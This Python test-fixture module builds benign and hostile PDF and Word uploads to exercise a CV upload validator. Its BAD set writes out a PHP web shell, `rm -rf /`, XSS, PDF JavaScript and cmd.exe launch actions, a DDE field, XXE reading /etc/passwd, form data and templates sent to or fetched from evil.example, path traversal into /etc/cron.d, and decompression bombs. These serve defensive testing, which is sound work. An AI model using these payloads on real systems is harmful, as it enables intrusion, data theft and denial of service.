"""Documents made here: good ones, and every kind of bad one that people and attackers send."""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable

# --- PDF -------------------------------------------------------------------------------------------------


def pdf(
    words: str = "Results of an ability test.", *, catalog: bytes = b"", page: bytes = b"", more: tuple[bytes, ...] = (),
    trailer: bytes = b"", header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", content: bytes | None = None,
) -> bytes:  # fmt: skip
    """A PDF of one page. `more` are further objects, numbered from 6."""
    shown = (
        content if content is not None else b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % words.encode("latin-1", "replace")
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R %s >>"
        % page,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(shown), shown),
        *more,
    ]
    return assembled(objects, trailer, header)


def assembled(objects: list[bytes], trailer: bytes = b"", header: bytes = b"%PDF-1.7\n") -> bytes:
    made, places = bytearray(header), []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    begins = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, begins)
    return bytes(made)


PAGE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def stream(body: bytes, entries: bytes = b"") -> bytes:
    packed = zlib.compress(body)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), entries, packed)


def pdf_with_object_stream(hidden: bytes, padding: int = 0) -> bytes:
    """A PDF whose object 6 lies packed in an object stream, found by a cross-reference stream."""
    inside = b"6 0 " + hidden + b" " * padding
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Hidden 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        stream(inside, b"/Type /ObjStm /N 1 /First 4"),
    ]
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    begins = len(made)
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (1, begins, 0), (2, 4, 0)]
    table = b"".join(struct.pack("!BIH", *row) for row in rows)
    entries = b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R"
    made += b"5 0 obj\n" + stream(table, entries) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % begins
    return bytes(made)


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer, out = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("secret")
    writer.write(out)
    return out.getvalue()


# --- Word ------------------------------------------------------------------------------------------------

TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
)
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
RELATIONS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{}</w:body></w:document>'
)


def relation(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return RELATIONS.format(f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>')


def docx(
    words: str = "A CV.", *, main: str = MAIN, parts: dict[str, str | bytes] | None = None, body: str = ""
) -> bytes:
    content: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES.format(main=main),
        "_rels/.rels": relation("officeDocument", "word/document.xml", external=False),
        "word/document.xml": BODY.format(body or f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"),
        "word/_rels/document.xml.rels": relation("hyperlink", "https://www.gmc-uk.org/"),
    }
    return zipped(content | (parts or {}))


def zipped(parts: dict[str, str | bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            # Always of one moment, so that the same is made each time.
            archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), body, zipfile.ZIP_DEFLATED)
        archive.comment = comment
    return out.getvalue()


def overlapping() -> bytes:
    """A Word document whose directory lists the same packed bytes twice."""
    made = docx(parts={"word/a.xml": BODY.format("x" * 9000)})
    at = made.rfind(b"PK\x05\x06")
    size, start = struct.unpack("<II", made[at + 12 : at + 20])
    directory = made[start : start + size]
    last = directory[directory.rfind(b"PK\x01\x02") :].replace(b"word/a.xml", b"word/b.xml")
    end = bytearray(made[at:])
    count = struct.unpack("<H", end[8:10])[0] + 1
    end[8:12] = struct.pack("<HH", count, count)
    end[12:16] = struct.pack("<I", size + len(last))
    return made[:start] + directory + last + bytes(end)


def lying_about_its_size() -> bytes:
    """A Word document one of whose parts says it is small, and is 60 MB."""
    made = bytearray(docx(parts={"word/media/a.png": b"\0" * 60_000_000}))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        for found in re.finditer(re.escape(signature), bytes(made)):
            at = found.start() + offset
            if struct.unpack("<I", made[at : at + 4])[0] == 60_000_000:
                made[at : at + 4] = struct.pack("<I", 100)
    return bytes(made)


def locked_docx() -> bytes:
    """With the flag set that says a part is encrypted."""
    made = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for found in re.finditer(re.escape(signature), bytes(made)):
            made[found.start() + offset] |= 1
    return bytes(made)


# --- Everything bad --------------------------------------------------------------------------------------

SCRIPT = b"<script>alert(document.cookie)</script>"
JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
HIDDEN_JS = b"<< /Type /Action /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"
LAUNCH = b"<< /Type /Action /S /Launch /F (cmd.exe) >>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
BILLION_LAUGHS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>'
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'


def field(instruction: str) -> str:
    """A field of a Word document whose instruction is cut into runs, as Word itself cuts them."""
    half = len(instruction) // 2
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (instruction[:half], instruction[half:]))
    return f"<w:p>{runs}</w:p>"


def svg_in(name: str) -> dict[str, str | bytes]:
    return {name: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"}


# name it is sent under, and the bytes. The name is what an attacker would choose.
BAD: dict[str, tuple[str, Callable[[], bytes]]] = {
    # Nothing, or something else
    "nothing at all": ("cv.pdf", lambda: b""),
    "one byte": ("cv.pdf", lambda: b"%"),
    "blanks": ("cv.docx", lambda: b" " * 4096),
    "zeros": ("cv.pdf", lambda: bytes(4096)),
    "an .exe called .pdf": ("cv.pdf", lambda: b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(400)),
    "an .exe": ("setup.exe", lambda: b"MZ\x90\0" + bytes(400)),
    "an ELF program": ("cv.docx", lambda: b"\x7fELF\x02\x01\x01" + bytes(400)),
    "a shell script": ("cv.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "a batch file": ("cv.pdf.bat", lambda: b"@echo off\r\ndel *.*\r\n"),
    "a page": ("cv.pdf", lambda: b"<!DOCTYPE html><html>" + SCRIPT),
    "a page that calls itself a PDF": ("cv.pdf", lambda: b"%PDF-1.7\n<html>" + SCRIPT + b"</html>"),
    "a page between PDF marks": ("cv.pdf", lambda: b"%PDF-1.7\n<html>" + SCRIPT + b"</html>\n%%EOF\n"),
    "an SVG with a script": ("cv.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>"),
    "an SVG called .pdf": ("cv.pdf", lambda: b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
    "an XML bomb": ("cv.pdf", BILLION_LAUGHS.encode),
    "a GIF that is a script": ("cv.pdf", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
    "a JPEG": ("photo.jpg", lambda: b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(400)),
    "a PNG called .docx": ("cv.docx", lambda: b"\x89PNG\r\n\x1a\n" + bytes(400)),
    "plain text": ("cv.docx", lambda: b"My CV in plain text."),
    "rich text": ("cv.docx", lambda: rb"{\rtf1\ansi {\object\objautlink}}"),
    "an old Word document": ("cv.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)),
    "PostScript": ("cv.pdf", lambda: b"%!PS-Adobe-3.0\n(x) run\n"),
    "a gzip bomb": ("cv.pdf", lambda: b"\x1f\x8b\x08\0" + zlib.compress(bytes(10_000_000))),
    "a RAR archive": ("cv.docx", lambda: b"Rar!\x1a\x07\x01\0" + bytes(400)),
    "a PHP program": ("../../cv.php", lambda: b"<?php system($_GET['c']); ?>"),
    "a Java archive": ("cv.docx", lambda: zipped({"META-INF/MANIFEST.MF": "Main-Class: Evil", "Evil.class": b"\xca\xfe"})),
    "the test virus": ("cv.pdf", lambda: EICAR),
    # PDF
    "a PDF cut short": ("cv.pdf", lambda: pdf()[:300]),
    "a PDF without its table": ("cv.pdf", lambda: pdf().replace(b"/Pages 2 0 R", b"/Nothing 2 0 R")),
    "a PDF with no page": ("cv.pdf", lambda: assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])),
    "a PDF of noise": ("cv.pdf", lambda: b"%PDF-1.4\n" + bytes(range(256)) * 40 + b"\n%%EOF\n"),
    "a PDF with a password": ("cv.pdf", encrypted_pdf),
    "a PDF that runs JavaScript when opened": ("cv.pdf", lambda: pdf(catalog=b"/OpenAction " + JS)),
    "a PDF with JavaScript by name": ("cv.pdf", lambda: pdf(catalog=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more=(JS,))),
    "a PDF whose JavaScript is written in hex": ("cv.pdf", lambda: pdf(catalog=b"/OpenAction 6 0 R", more=(HIDDEN_JS,))),
    "a PDF whose JavaScript lies packed": ("cv.pdf", lambda: pdf_with_object_stream(HIDDEN_JS)),
    "a PDF with JavaScript on a page": ("cv.pdf", lambda: pdf(page=b"/AA << /O " + JS + b" >>")),
    "a PDF that launches a program": ("cv.pdf", lambda: pdf(catalog=b"/OpenAction " + LAUNCH)),
    "a PDF that launches from a link": ("cv.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + LAUNCH.replace(b"Launch", b"La#75nch") + b" >>]")),
    "a PDF that sends a form away": ("cv.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>]")),
    "a PDF that imports data": ("cv.pdf", lambda: pdf(catalog=b"/OpenAction << /S /ImportData /F (a.fdf) >>")),
    "a PDF with a file in it": ("cv.pdf", lambda: pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", more=(b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>", stream(b"MZ", b"/Type /EmbeddedFile")))),
    "a PDF with a file pinned to a page": ("cv.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /File#41ttachment /Rect [0 0 9 9] >>]")),
    "a PDF with an XFA form": ("cv.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA 6 0 R >>", more=(stream(b"<xdp/>"),))),
    "a PDF with rich media": ("cv.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]")),
    "a PDF with a page before it": ("cv.pdf", lambda: b"<html>" + SCRIPT + pdf()),
    "a PDF with a page in its first lines": ("cv.pdf", lambda: pdf(header=b"%PDF-1.7\n%<html>" + SCRIPT + b"\n")),
    "a PDF with a program after it": ("cv.pdf", lambda: pdf() + b"MZ\x90\0" + bytes(400)),
    "a PDF that is an archive too": ("cv.pdf", lambda: pdf() + docx()),
    "an archive within a PDF": ("cv.pdf", lambda: pdf(content=b"x")[:-6] + docx() + b"\n%%EOF\n"),
    "a PDF that unpacks to gigabytes": ("cv.pdf", lambda: pdf_with_object_stream(b"<< /A 1 >>", padding=200_000_000)),
    "a PDF whose pages go round": ("cv.pdf", lambda: assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])),
    "a PDF nested without end": ("cv.pdf", lambda: pdf(more=(b"[" * 200_000 + b"]" * 200_000,))),
    "a PDF of a hundred thousand objects": ("cv.pdf", lambda: assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Page /Parent 2 0 R >>", *[b"1"] * 100_001])),
    # Word
    "a Word document cut short": ("cv.docx", lambda: docx()[:-40]),
    "an archive that is no Word document": ("cv.docx", lambda: zipped({"a.txt": "x"})),
    "a spreadsheet called .docx": ("cv.docx", lambda: zipped({"[Content_Types].xml": TYPES.format(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "xl/workbook.xml": "<w/>", "word/a.xml": "<a/>"})),
    "a Word document with macros": ("cv.docx", lambda: docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    "a macro document called .docx": ("cv.docx", lambda: docx(main=MACRO_MAIN)),
    "a Word document with an object in it": ("cv.docx", lambda: docx(parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf"})),
    "a Word document with another in it": ("cv.docx", lambda: docx(parts={"word/embeddings/a.docx": docx()})),
    "a Word document with ActiveX": ("cv.docx", lambda: docx(parts={"word/activeX/activeX1.xml": "<a/>"})),
    "a Word document that fetches its template": ("cv.docx", lambda: docx(parts={"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/a.dotm")})),
    "a Word document that fetches a picture": ("cv.docx", lambda: docx(parts={"word/_rels/document.xml.rels": relation("image", "http://evil.example/a.png")})),
    "a Word document that fetches an object": ("cv.docx", lambda: docx(parts={"word/_rels/document.xml.rels": relation("oleObject", "file://evil/a.xls")})),
    "a Word document with a link that runs": ("cv.docx", lambda: docx(parts={"word/_rels/document.xml.rels": relation("hyperlink", "javascript:alert(1)")})),
    "a Word document with a link to a share": ("cv.docx", lambda: docx(parts={"word/_rels/document.xml.rels": relation("hyperlink", r"file://\\evil\share")})),
    "a Word document with a DDE field": ("cv.docx", lambda: docx(body=field(r" DDEAUTO c:\\windows\\cmd.exe "))),
    "a Word document with an entity bomb": ("cv.docx", lambda: docx(parts={"word/document.xml": BILLION_LAUGHS})),
    "a Word document that reads a file": ("cv.docx", lambda: docx(parts={"word/document.xml": XXE})),
    "the same in UTF-16": ("cv.docx", lambda: docx(parts={"word/document.xml": XXE.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")})),
    "a Word document of broken XML": ("cv.docx", lambda: docx(parts={"word/document.xml": "<w:document>"})),
    "a zip bomb": ("cv.docx", lambda: docx(parts={"word/media/a.png": bytes(200_000_000)})),
    "a zip bomb of XML": ("cv.docx", lambda: docx(parts={"word/document.xml": BODY.format("<w:p/>" * 5_000_000)})),
    "a zip bomb under the limit of size": ("cv.docx", lambda: docx(parts={"word/media/a.png": bytes(30_000_000)})),
    "a zip bomb that lies about its size": ("cv.docx", lying_about_its_size),
    "a zip bomb of many parts": ("cv.docx", lambda: docx(parts={f"word/{n}.xml": "<a/>" for n in range(2000)})),
    "an archive whose parts overlap": ("cv.docx", overlapping),
    "a locked archive": ("cv.docx", locked_docx),
    "an archive that climbs": ("cv.docx", lambda: docx(parts={"../../../etc/cron.d/evil": "x"})),
    "an archive that climbs in Windows": ("cv.docx", lambda: docx(parts={"word\\..\\..\\evil.xml": "<a/>"}).replace(b"word/..", b"word\\..")),
    "an archive with an absolute name": ("cv.docx", lambda: docx(parts={"/etc/passwd": "x"})),
    "an archive with a page in it": ("cv.docx", lambda: docx(parts={"word/a.html": SCRIPT})),
    "an archive with an SVG in it": ("cv.docx", lambda: docx(parts=svg_in("word/media/a.svg"))),
    "a page before an archive": ("cv.docx", lambda: b"<html>" + SCRIPT + docx()),
    "a page after an archive": ("cv.docx", lambda: docx() + SCRIPT),
    "a page in the comment of an archive": ("cv.docx", lambda: zipped({"[Content_Types].xml": TYPES.format(main=MAIN), "word/document.xml": BODY.format("")}, SCRIPT)),
}  # fmt: skip

GOOD: dict[str, Callable[[], bytes]] = {
    "pdf": pdf,
    "pdf with a packed object": lambda: pdf_with_object_stream(b"<< /A 1 >>"),
    "pdf with a link": lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://www.gmc-uk.org/) >> >>]"),
    "docx": docx,
    "docx with a picture": lambda: docx(parts={"word/media/a.png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40}),
}  # fmt: skip


def form(fields: dict[str, str], name: str, content: bytes, mimetype: str = "application/pdf") -> tuple[bytes, str]:
    """A form with a file, as a browser sends it: its body and its type."""
    line = b"--a-line-between\r\nContent-Disposition: form-data; "
    body = b"".join(line + f'name="{field}"\r\n\r\n{value}\r\n'.encode() for field, value in fields.items())
    called = name.replace("\\", "\\\\").replace('"', '\\"').replace("\r", "%0D").replace("\n", "%0A")
    body += line + f'name="file"; filename="{called}"\r\nContent-Type: {mimetype}\r\n\r\n'.encode()
    return body + content + b"\r\n--a-line-between--\r\n", "multipart/form-data; boundary=a-line-between"
